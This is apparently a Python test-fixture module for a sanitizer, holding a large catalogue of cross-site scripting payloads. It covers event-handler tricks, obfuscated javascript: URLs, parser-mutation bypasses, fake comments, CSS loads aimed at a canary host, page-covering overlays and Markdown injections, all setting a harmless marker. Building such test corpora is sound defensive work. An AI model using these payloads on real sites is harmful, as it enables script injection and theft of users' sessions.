"""What strangers may write: a few of every family of attack that is known, in our own words.

`JS` in them sets `top.__pwned`, which the viewer looks at; `CANARY` is a host that nothing may ever
ask; a picture of a post may come from `PICTURES`, a comment's may not.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from urllib.parse import quote

CANARY = "canary.example"
PICTURES = "pictures.example"
JS = "top.__pwned=1"
_JS_CODES = "".join(f"&#{ord(c)};" for c in JS)
_URL = f"http://{CANARY}"
_HIDDEN = f"<img src=x: onerror={JS}>"

#: Handlers: the element, the event, and how the attribute is written.
HANDLERS = (
    f"<img src=x: onerror={JS}>",
    f'<img src="x:" onerror="{_JS_CODES}">',
    f"<img src=x: oNeRRoR\n=\n'{JS}'>",
    f"<img/src=x:/onerror={JS}>",
    f"<img\x0csrc=x:\x0conerror={JS}>",
    f'<img src=x: alt="a"onerror={JS}>',
    f"<img src=x: alt=`a`onerror={JS}>",
    f'<img src=x: """onerror={JS}>',
    f"<img src=x: on\x00error={JS}>",
    f"<im\x00g src=x: onerror={JS}>",
    f"<image src=x: onerror={JS}>",
    f"<body onload={JS}>",
    f"<body onpageshow={JS}><p>x",
    f"<p onpointerenter={JS} onclick={JS}>x</p>",
    f"<b autofocus tabindex=0 onfocus={JS}>x</b>",
    f"<details open ontoggle={JS}><summary>x</summary>y</details>",
    f"<video onloadstart={JS}><source onerror={JS}></video>",
    f"<audio src=x: onerror={JS}></audio>",
    f"<video poster=x: src=x: onerror={JS}></video>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}><option>x</select>",
    f"<textarea autofocus onfocus={JS}>x</textarea>",
    f"<p style=animation-name:x onanimationstart={JS}>x</p><style>@keyframes x{{}}</style>",
    f"<p style='transition:color 1ms' ontransitionend={JS}>x</p>",
    f"<p popover onbeforetoggle={JS}>x</p><button popovertarget=x>y</button>",
    (
        f"<p id=x contentvisibilityautostatechange oncontentvisibilityautostatechange={JS}"
        " style=content-visibility:auto>x</p>"
    ),
    f"<made-up onclick={JS} is=other>x</made-up>",
    f"<a href=# onmouseover={JS}//>x</a>",
    f"</p onclick={JS}>x",
    f'<p title="a\'" lang=\'"\' onclick="{JS}">x</p>',
    f"<p/onclick={JS}/>x",
    f"<track kind=subtitles src=x: onerror={JS}>",
    f"<object data=x: onerror={JS}></object>",
    f"<script src=x: onerror={JS}></script>",
    f"<link rel=stylesheet href=x: onerror={JS}>",
    f"<picture><source srcset=x:><img onerror={JS}></picture>",
)

_WRITTEN = (
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f" \x01javascript:{JS}",
    f"\u00a0javascript:{JS}",
    f"javascript\x00:{JS}",
    f"javascript&colon;{JS}",
    f"java&Tab;script&colon;{JS}",
    f"java&NewLine;script:{JS}",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{JS}",
    f"&#0000106avascript:{JS}",
    f"javascript://a.example/%0a{JS}",
    f"javascript:/*--></title></style></textarea>*/{JS}",
    f"vbscript:{JS}",
    f"data:text/html,<script>{html.escape(JS)}</script>",
    f"data:text/html;base64,{quote('PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+')}",
    f"data:image/svg+xml,<svg onload={JS} xmlns='http://www.w3.org/2000/svg'/>",
    f"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{JS}</script>",
    f"d&#97;ta&colon;text/html,<script>{JS}</script>",
    "blob:null/1",
    "filesystem:x",
    f"view-source:{_URL}",
    f"feed:javascript:{JS}",
    f"jar:{_URL}!/x",
    f"\u202ejavascript:{JS}",
    f"\ufeffjavascript:{JS}",
    f"ｊavascript:{JS}",
    f"javaſcript:{JS}",
)
_HOLDERS = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button formaction="{}">x</button></form>',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
    '<math href="{}"><mi>x</mi></math>',
    '<object data="{}"></object><embed src="{}">',
    '<video src="{}" poster="{}"></video><audio src="{}"></audio>',
    '<img srcset="{} 1x, {} 2x">',
    '<p style="background-image:url({})" background="{}">x</p>',
    '<blockquote cite="{}">x</blockquote><q cite="{}">y</q>',
    '<base href="{}"><link rel=stylesheet href="{}"><meta http-equiv=refresh content="0;url={}">',
    '<img usemap=#m><map name=m><area href="{}" shape=default></map>',
    '<a ping="{}" href=/x>x</a><body background="{}"><table background="{}"><td background="{}">',
    '<script src="{}"></script><input type=image src="{}"><frame src="{}">',
)


def _addresses() -> Iterator[str]:
    """Every address in a link; every holder with three of them."""
    yield from (_HOLDERS[0].replace("{}", written) for written in _WRITTEN)
    for number, holder in enumerate(_HOLDERS):
        for step in (0, 7, 15):
            yield holder.replace("{}", _WRITTEN[(number + step) % len(_WRITTEN)])


ADDRESSES = tuple(_addresses())

#: What one parser takes for text and the next one for markup (mutation XSS).
MUTATIONS = (
    f"<svg></p><style><a title='</style>{_HIDDEN}'>",
    f"<math><mtext><table><mglyph><style><!--</style><p title='-->{_HIDDEN}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{_HIDDEN}",
    f"<math><annotation-xml encoding=text/html><p><style></p></annotation-xml>{_HIDDEN}</style>",
    f"<svg><title><p><style></title></svg>{_HIDDEN}</style>",
    f"<svg><desc><b><p title='</desc></svg>{_HIDDEN}'>",
    f"<svg><foreignObject><math><mi><p><style><a title='</style>{_HIDDEN}'>",
    f"<svg><style>&lt;/style&gt;{html.escape(_HIDDEN)}</style></svg>",
    f"<svg><![CDATA[</svg>{_HIDDEN}]]></svg>",
    f"<math><mi><![CDATA[</mi></math>{_HIDDEN}]]>",
    f"<svg><a><p><a title='</svg>{_HIDDEN}'>",
    f"<noscript><p title='</noscript>{_HIDDEN}'>",
    f"<noembed><p title='</noembed>{_HIDDEN}'></noembed>",
    f"<noframes><p title='</noframes>{_HIDDEN}'></noframes>",
    f"<xmp><p title='</xmp>{_HIDDEN}'></xmp>",
    f"<listing>&lt;img src=x: onerror={JS}&gt;</listing>",
    f"<plaintext>{_HIDDEN}",
    f"<iframe><p title='</iframe>{_HIDDEN}'></iframe>",
    f"<textarea><p title='</textarea>{_HIDDEN}'>",
    f"<title><p title='</title>{_HIDDEN}'>",
    f"<template><p title='</template>{_HIDDEN}'></template>",
    f"<template><script>{JS}</script>{_HIDDEN}</template>",
    f"<div><template shadowrootmode=open>{_HIDDEN}</template></div>",
    f"<select><style></select>{_HIDDEN}</style>",
    f"<select><option><p title='</select>{_HIDDEN}'>",
    f"<table><tr><td><table><svg><style></table>{_HIDDEN}",
    f"<table><select><math><mtext><td>{_HIDDEN}",
    f"<a><table><a><p title='</a>{_HIDDEN}'>",
    f"<p><svg><p><style><!--</style>--><p title='{_HIDDEN}'>",
    f"<b><p></b><svg><b></svg>{_HIDDEN.replace('>', '')}",
    f"<code>&lt;img src=x: onerror={JS}&gt;</code>",
    f"&lt;img src=x: onerror={JS}&gt; &amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;",
    f"<p title=\"`onclick={JS}\">x</p><p title='`-->{_HIDDEN}'>y</p>",
    f'<p title="&lt;/p&gt;{html.escape(_HIDDEN)}">x</p>',
    f'<pre title="\n{html.escape(_HIDDEN)}">\n\n&lt;script&gt;{JS}&lt;/script&gt;</pre>',
    f'<img alt="<x" title="/>{html.escape(_HIDDEN)}">',
    f'<a href="https://a.example/?&lt;/a&gt;{html.escape(_HIDDEN)}">x</a>',
    f'<abbr title="--&gt;&lt;script&gt;{JS}&lt;/script&gt;">x</abbr>',
)

#: What only looks like a comment, a declaration or an end.
COMMENTS = (
    f"<!--><script>{JS}</script>-->",
    f"<!---><script>{JS}</script>-->",
    f"<!-- --!><script>{JS}</script>-->",
    f"<!-- x -- ><script>{JS}</script> -->",
    f"<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
    f"<![CDATA[><script>{JS}</script>]]>",
    f"<?xml version='1.0'?><?x ><script>{JS}</script>?>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{JS}</script>'>]>&y;",
    f"</ ><script>{JS}</script>",
    f"<//><script>{JS}</script>",
    f"<%><script>{JS}</script>%>",
    f"]]><script>{JS}</script>",
    f"--><script>{JS}</script><!--",
    f"<script>{JS}",
    f"<script>//<!--\n{JS}</script>",
    f"<script/x>{JS}</script>",
    f"<script\n>{JS}</script\n>",
    f"<ScRiPt>{JS}</sCrIpT>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<scr\x00ipt>{JS}</scr\x00ipt>",
    f"<scr\ud7ffipt>{JS}</script>",
    f"<<script>{JS}//<</script>",
    f"<script type=module>{JS}</script>",
    f"<svg><script>{html.escape(JS)}</script></svg>",
    f"<svg><script href=data:,{JS} /></svg>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{JS}</x:script>",
    f"<p xmlns='http://www.w3.org/1999/xhtml'><script>{JS}</script>",
    f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    f"＜script＞{JS}＜/script＞",
    f"\\x3cscript\\x3e{JS}\\x3c/script\\x3e %3Cscript%3E{JS}%3C/script%3E",
)

#: What loads, leads away, or changes the page around it.
REQUESTS = (
    f"<meta http-equiv=refresh content='0;url={_URL}/r'>",
    f"<base href={_URL}/><a href=x>x</a>",
    f"<link rel=stylesheet href={_URL}/s><link rel=prefetch href={_URL}/p>",
    f"<link rel=dns-prefetch href=//{CANARY}><link rel=preload as=image href={_URL}/l>",
    f"<style>@import '{_URL}/i';body{{background:url({_URL}/b)}}</style>",
    f"<p style='background:url({_URL}/b)'>x</p>",
    f"<p style='background:u\\72l({_URL}/b)'>x</p>",
    f"<p style='background-color:image-set(\"{_URL}/b\" 1x)'>x</p>",
    f"<ul style='list-style:url({_URL}/b)'><li>x</ul>",
    f"<p style='list-style-type:url({_URL}/b);display:list-item'>x</p>",
    f"<p style='content:url({_URL}/b);cursor:url({_URL}/c),auto'>x</p>",
    f"<p style='color:red;}}*{{background:url({_URL}/b)'>x</p>",
    f"<p style='border-image:url({_URL}/b);filter:url({_URL}/f#x);mask:url({_URL}/m)'>x</p>",
    f"<p style='behavior:url({_URL}/x);-moz-binding:url({_URL}/x)'>x</p>",
    f"<p style='color:expression({JS})'>x</p>",
    f"<p style='color:/*{_URL}*/red;--x:url({_URL}/v);background:var(--x)'>x</p>",
    f"<iframe src={_URL}/f></iframe><iframe srcdoc='{_HIDDEN}'></iframe>",
    f"<iframe srcdoc=&lt;img&#32;src={_URL}/f&gt;></iframe>",
    f"<object data={_URL}/o></object><embed src={_URL}/e><applet code=x codebase={_URL}></applet>",
    f"<frameset><frame src={_URL}/f></frameset>",
    f"<portal src={_URL}/p></portal><fencedframe src={_URL}></fencedframe>",
    f"<form action={_URL}/f><input name=q autofocus><input type=image src={_URL}/i></form>",
    f"<form id=f></form><button form=f formaction={_URL}/b type=submit>x</button>",
    f"<svg><image href={_URL}/i /><use href={_URL}/u#x /><feImage href={_URL}/f /></svg>",
    (
        f"<svg><set attributeName=href to=javascript:{JS} /><animate attributeName=href"
        f" values=javascript:{JS} /></svg>"
    ),
    f"<svg><style>@import '{_URL}/s'</style></svg>",
    f"<math><mglyph src={_URL}/m></mglyph></math>",
    f"<body background={_URL}/b><table background={_URL}/t><td background={_URL}/d>x",
    f"<bgsound src={_URL}/s><isindex action={_URL}/x><keygen>",
    f"<a href={_URL}/a ping={_URL}/p target=_top download>x</a>",
    f"<p itemscope itemtype={_URL}/t><img lowsrc={_URL}/l dynsrc={_URL}/d>",
    f"<html manifest={_URL}/m><head profile={_URL}/p>",
    f"<command icon={_URL}/i><menu><menuitem icon={_URL}/i></menu>",
    f"<del cite={_URL}/c>x</del><img longdesc={_URL}/l usemap={_URL}/u#x>",
    (
        f"<script src={_URL}/s></script><script type=speculationrules>"
        f'{{"prefetch":[{{"urls":["{_URL}/p"]}}]}}</script>'
    ),
    f"<picture><source srcset='data:,x 1x, javascript:{JS} 2x'></picture>",
)

#: What lies over the page of whoever shows it.
COVERS = (
    "<p style='position:fixed;inset:0;z-index:99999;background:#fff'>x</p>",
    "<p style='position:absolute;top:0;left:0;width:9999px;height:9999px'>x</p>",
    "<p style='POSITION/**/:/**/fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='position&colon;fixed&semi;inset:0'>x</p>",
    "<p style='posit\\69on:fixed;inset:0'>x</p>",
    "<p style='margin:-900px;padding:900px;background:red'>x</p>",
    "<p style='transform:scale(99);font-size:900px;line-height:0'>x</p>",
    "<p style='float:left;box-shadow:0 0 0 99in red;outline:99in solid red'>x</p>",
    "<p style='color:red;position:fixed;inset:0' class='modal overlay' id=marker>x</p>",
    "<dialog open style='position:fixed;inset:0'>x</dialog>",
    "<p popover=manual id=p style='display:block;inset:0;width:100%;height:100%'>x</p>",
    "<table style='position:fixed;inset:0'><td>x</td></table>",
    "<p style='vertical-align:9999px;white-space:pre'>x<b style='vertical-align:99in'>y</b></p>",
    "<style>p{position:fixed;inset:0}</style><p>x</p>",
    "<div style='zoom:99;writing-mode:vertical-rl'><p>x</p></div>",
    "<marquee height=9999 width=9999 direction=up>x</marquee>",
    "<font size=7><big><big><big><big><big><big>x</big></big></big></big></big></big></font>",
    "<p dir=rtl>\u202e\u2067x\u202b</p><bdo dir=rtl>y",
    "</div></div></div></section></article></main></body></html><p>x</p>",
    "</td></tr></table></p><table><tr><td>x",
    "<p>" + "Z" + "\u0301\u0489\u0322" * 200 + "</p>",
)

#: Markdown's own ways to write the same.
MARKDOWN = (
    f"[x](javascript:{JS})",
    f"[x](<java\tscript:{JS}>)",
    f"[x](&#106;avascript:{JS})",
    f"[x](javascript&colon;{JS} 'y\" onclick=\"{JS}')",
    f"![x](x: 'y\" onerror=\"{JS}')",
    f'![x" onerror="{JS}](x:)',
    f"<javascript:{JS}>",
    f"[x]\n\n[x]: data:text/html,<script>{JS}</script>",
    f"[x][y]\n\n[y]: <javascript:{JS}> '{_HIDDEN}'",
    f"`{_HIDDEN}` ``<script>{JS}</script>``",
    f"```<script>{JS}</script>\n{_HIDDEN}\n```",
    f'```x" onclick="{JS}\n{_HIDDEN}\n```',
    f"| a |\n|---|\n| {_HIDDEN} |",
    f"x[^1]\n\n[^1]: {_HIDDEN}",
    f"[^{_HIDDEN}]\n\n[^{_HIDDEN}]: x",
    f"> <script>\n> {JS}\n> </script>",
    f"- <p\n- onclick={JS}>x",
    f"    {_HIDDEN}\n\n\t<script>{JS}</script>",
    f'http://a.example/"onmouseover="{JS}',
    f"www.a.example/<img/src=x:/onerror={JS}>",
    f"\\<script>{JS}</script>",
    f"<!-- x\n\n-- ><script>{JS}</script>\n\n-->",
    f"[{_HIDDEN}](/x)",
    f"<a href='/x'>[y](javascript:{JS})</a>",
    f"# {_HIDDEN}\n{_HIDDEN}\n===",
)

#: Pictures from elsewhere: a post shows them, a comment asks for nothing.
LOADED = (
    f"<img src=http://{PICTURES}/a.png>",
    f"![x](http://{PICTURES}/b.png)",
    f"<img srcset='http://{PICTURES}/c.png 1x, //{PICTURES}/d.png 2x'>",
    f"<video src=http://{PICTURES}/e.mp4 poster=http://{PICTURES}/f.png></video>",
    f"<audio src=http://{PICTURES}/g.mp3></audio>",
    f"<picture><source srcset=http://{PICTURES}/h.webp><img src=http://{PICTURES}/i.png></picture>",
)

BODIES = (
    *HANDLERS,
    *ADDRESSES,
    *MUTATIONS,
    *COMMENTS,
    *REQUESTS,
    *COVERS,
    *MARKDOWN,
    *LOADED,
)

#: What a name, a title, a category may be made of.
LINES = (
    f"<script>{JS}</script>",
    _HIDDEN,
    f'"><img src=x: onerror={JS}>',
    f"' onmouseover={JS} '",
    f"</title><script>{JS}</script>",
    f"]]><script>{JS}</script>",
    f"--><img src=x: onerror={JS}>",
    f"</a></h2><svg onload={JS}>",
    f"&lt;img src=x: onerror={JS}&gt;",
    f"&amp;lt;img src=x: onerror={JS}&amp;gt;",
    f"Ann &#60;script&#62;{JS}&#60;/script&#62;",
    f"{{{{ {JS} }}}} ${{{JS}}} <% {JS} %>",
    f"\u202etxt.{JS}\u2066",
    f"x\u2028{JS}\u2029y",
)
#: Where somebody says to be at home.
URIS = (
    f"javascript:{JS}",
    f"java\tscript:{JS}",
    f"data:text/html,<script>{JS}</script>",
    f'//{CANARY}/"><script>{JS}</script>',
    f"https://a.example/'onclick={JS}",
    f'https://a.example/"><img src=x: onerror={JS}>',
)
